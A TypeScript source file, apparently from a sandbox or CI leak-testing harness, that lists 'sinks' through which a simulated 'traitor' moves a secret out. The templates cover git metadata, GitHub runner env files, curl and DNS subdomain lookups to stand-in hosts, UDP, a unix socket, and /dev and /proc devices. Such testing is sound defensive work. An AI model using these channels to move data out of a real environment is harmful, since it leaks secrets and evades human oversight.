import type { Target } from "./sources.ts";

/** One way to let `$loot` out, or to leave it where it is carried out later. */
export interface Sink {
  name: string;
  send(target: Target, count: number): string;
}

/** Where the traitor puts what it found. `count` makes names differ. */
export const sinks: readonly Sink[] = [
  { name: "standard output", send: () => 'echo "$loot"' },
  { name: "standard error", send: () => 'echo "$loot" >&2' },
  { name: "a file of the work tree", send: (_, n) => `echo "$loot" > notes-${n}.txt` },
  { name: "the name of a file", send: () => 'touch -- "$(printf %s "$loot" | tr -d "/\\0\\n" | head -c 200)"' },
  { name: "the target of a link", send: (_, n) => `ln -s "$(printf %s "$loot" | head -c 300)" link-${n}` },
  { name: "a commit message", send: () => 'git commit -q --allow-empty -m "$loot"' },
  {
    name: "a branch and a tag",
    send: (_, n) => `git branch "b$(printf %s "$loot" | tr -cd a-zA-Z0-9 | head -c 150)"; git tag -m "$loot" t${n}`,
  },
  { name: "a note of git", send: () => 'git notes add -f -m "$loot"' },
  {
    name: "a workflow command",
    send: () =>
      'echo "::set-output name=loot::$loot"; echo "::notice::$loot"; echo "##[set-env name=LOOT;]$loot"; echo "::add-mask::x"',
  },
  {
    name: "a command file of the runner",
    send: () =>
      'for f in "$GITHUB_ENV" "$GITHUB_OUTPUT" "$GITHUB_STEP_SUMMARY" "$GITHUB_PATH"; do [ -n "$f" ] && echo "LOOT=$loot" >> "$f"; done',
  },
  {
    name: "HTTP",
    send: ({ openPort }) =>
      `curl -s -m 1 "http://127.0.0.1:${openPort}/?$(printf %s "$loot" | head -c 500)" && echo conn''ected`,
  },
  {
    name: "UDP and DNS",
    send: ({ udpPort }) =>
      `(printf %s "$loot" > /dev/udp/127.0.0.1/${udpPort}) 2>/dev/null; timeout 1 getent hosts "$(printf %s "$loot" | tr -cd a-z0-9 | head -c 60).example.org"`,
  },
  {
    name: "a socket of the host",
    send: ({ unixSocket }) =>
      `printf 'GET /%s HTTP/1.0\\r\\n\\r\\n' "$loot" | timeout 1 curl -s -m 1 --unix-socket ${unixSocket} http://x/loot`,
  },
  {
    name: "devices and other processes",
    send: () =>
      'for f in /dev/tty /dev/console /dev/kmsg /dev/pts/0 /proc/1/fd/1 /proc/1/fd/2 /proc/$PPID/fd/0; do (echo "$loot" > "$f") 2>/dev/null; done',
  },
];
